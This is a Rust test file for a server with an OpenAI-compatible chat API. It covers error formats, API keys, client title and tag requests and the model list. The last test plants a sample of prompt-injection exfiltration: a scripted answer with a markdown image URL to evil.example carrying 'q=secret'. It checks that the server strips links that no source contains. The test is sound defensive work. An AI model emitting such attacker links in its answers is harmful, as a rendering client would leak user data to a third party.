//! Faults as clients of the OpenAI protocol read them.

use serde_json::{Value, json};

use crate::support::model::Script;
use crate::support::server::Server;

const COMPLETIONS: &str = "/v1/chat/completions";

#[tokio::test]
async fn faults_have_the_shape_of_the_protocol_in_both_languages() {
    let server = Server::extracts().await;
    let long = json!({ "messages": [{ "role": "user", "content": "가".repeat(12_000) }] }).to_string();
    let huge = json!({ "messages": [{ "role": "user", "content": "a".repeat(9 << 20) }] }).to_string();
    for (language, korean) in [("en", false), ("ko", true)] {
        for (body, kind, status, param, code) in [
            ("{ \"messages\": [] }", "application/json", 400, json!("messages"), "invalid_input"),
            ("{ \"messages\": 3 }", "application/json", 400, json!("messages"), "invalid_input"),
            ("{\n\n", "application/json", 400, json!("body"), "invalid_input"),
            ("{}", "text/plain", 415, json!(null), "content_type"),
            (&long, "application/json", 413, json!(null), "too_large"),
            (&huge, "application/json", 413, json!(null), "too_large"),
        ] {
            let request = server.client.post(server.url(COMPLETIONS)).header("content-type", kind);
            let answer =
                request.header("accept-language", language).body(body.to_owned()).send().await.unwrap();
            assert_eq!(answer.status(), status, "{body}");
            assert_eq!(answer.headers()["content-type"], "application/json");
            let fault: Value = answer.json().await.unwrap();
            let error = &fault["error"];
            assert_eq!(error["type"], "invalid_request_error", "{fault}");
            assert_eq!((&error["param"], &error["code"]), (&param, &json!(code)), "{fault}");
            let message = error["message"].as_str().unwrap();
            assert_eq!(message.chars().any(|ch| ('가'..='힣').contains(&ch)), korean, "{message}");
        }
    }
    for path in ["/v1/embeddings", COMPLETIONS, "/v1/models/gpt-9"] {
        let (status, fault) = server.get(path).await;
        assert!(status == 404 || status == 405, "{path}: {status}");
        assert!(fault["error"]["message"].as_str().unwrap().len() > 15, "{path}: {fault}");
    }
    assert_eq!(server.get("/v1/models/stet").await.1["id"], "stet");
    // Other clients get problems.
    let (_, problem) = server.post("/api/search", &json!({})).await;
    assert_eq!((&problem["error"], &problem["field"]), (&json!(null), &json!("query")));
}

#[tokio::test]
async fn a_missing_key_is_told_as_the_protocol_does() {
    let server = Server::start(None, |config| config.server.api_key = Some("s3cret".into())).await;
    let (status, fault) = server.get("/v1/models").await;
    assert_eq!((status, &fault["error"]["code"]), (401, &json!("invalid_api_key")), "{fault}");
}

const TAGS: &str = "### Task:\nGenerate 1-3 broad tags for the chat history.\n### Output:\nJSON\n### Chat History:\n<chat_history>\nUSER: When?\n</chat_history>";

/// What a chat client asks behind its user's back is asked of the model as it stands; nothing is searched, judged or kept.
#[tokio::test]
async fn a_clients_own_work_is_no_question() {
    let server = Server::scripted("plain").await;
    let model = server.model.as_ref().unwrap();
    let turns = json!([{ "role": "user", "content": TAGS }]);
    for path in [COMPLETIONS, "/v1/responses"] {
        for stream in [false, true] {
            model.forget();
            model.push(Script::text(["{\"tags\": [\"library\"]}"]));
            let body = json!({ "model": "stet", "stream": stream, "messages": turns, "input": turns });
            let told = server.client.post(server.url(path)).json(&body).send().await.unwrap();
            assert_eq!(told.status(), 200);
            let told = told.text().await.unwrap();
            assert!(told.contains("library") && !told.contains("sources do not"), "{told}");
            let end = if path == COMPLETIONS { "data: [DONE]" } else { "event: response.completed" };
            assert_eq!(told.contains(end), stream, "{told}");
            // The trial of the model as a judge may come between.
            let requests = model.requests();
            let asked = |body: &Value| body["messages"].to_string().contains("broad tags");
            let mut of_it = requests.iter().filter(|request| asked(&request.body));
            assert_eq!(of_it.next_back().unwrap().body["messages"], turns);
        }
    }
    assert_eq!(server.get("/api/chats?all=true").await.1["chats"], json!([]));
    // A model that is asked alone writes JSON as well, and is told what was said before.
    model.forget();
    model.push(Script::text(["{\"title\": \"Hours\"}"]));
    let body = json!({
        "messages": [
            { "role": "user", "content": "When?" }, { "role": "assistant", "content": "At nine." },
            { "role": "user", "content": "Generate a concise 3-7 word title for this conversation." },
        ],
        "response_format": { "type": "json_object" },
    });
    let (status, told) = server.post(COMPLETIONS, &body).await;
    assert_eq!(
        (status, &told["choices"][0]["message"]["content"]),
        (200, &json!("{\"title\": \"Hours\"}")),
        "{told}"
    );
    assert_eq!(model.requests().pop().unwrap().body["messages"], body["messages"]);
    // Nobody could say it: such clients read an empty object, or no word, and do without.
    let quoting = Server::extracts().await;
    let title = "Provide a concise title for the conversation.\n\nUser: When?";
    for (text, said) in [(TAGS, "{}"), (title, "")] {
        let body = json!({ "messages": [{ "role": "user", "content": text }] });
        let (status, told) = quoting.post(COMPLETIONS, &body).await;
        assert_eq!((status, &told["choices"][0]["message"]["content"]), (200, &json!(said)), "{told}");
    }
}

/// A picker offers what can be chatted with; what else there is, is had by its name.
#[tokio::test]
async fn the_list_of_models_shows_those_that_answer() {
    let server = Server::extracts().await;
    let (_, list) = server.get("/v1/models").await;
    let names: Vec<&Value> = list["data"].as_array().unwrap().iter().map(|model| &model["id"]).collect();
    assert_eq!(names, [&json!("stet")]);
    assert_eq!(server.get("/v1/models/stet-embeddings").await.1["id"], "stet-embeddings");
}

/// A text that hides in a source must not make a client fetch what a model was told to write.
#[tokio::test]
async fn an_answer_holds_no_address_that_no_source_has() {
    let mut server = Server::scripted("plain").await;
    server.ingest("fees.md", "The filing fee is 5 euros. Forms: https://forms.example/fee.\n").await;
    let written = "The filing fee is 5 euros [1]. ![logo](https://evil.example/p.png?q=secret) See [forms](https://forms.example/fee) or [more](https://evil.example/x).";
    let pieces: Vec<&str> = written.split_inclusive(' ').collect();
    for stream in [false, true] {
        server.model.as_ref().unwrap().push(Script::text(pieces.iter().copied()));
        let body = json!({ "stream": stream, "messages": [{ "role": "user", "content": "What is the filing fee?" }] });
        let told = server.client.post(server.url(COMPLETIONS)).json(&body).send().await.unwrap();
        let told = told.text().await.unwrap();
        assert!(!told.contains("evil.example"), "{told}");
        assert!(told.contains("forms.example/fee") && told.contains("more"), "{told}");
    }
    server.model.as_ref().unwrap().push(Script::text([written]));
    let told = server.ask("c", "What is the filing fee?").await;
    assert!(!told.text().contains("evil.example"), "{}", told.text());
    let (_, stored) = server.get("/api/chats/c?format=markdown").await;
    assert!(!stored.to_string().contains("evil.example"));
}
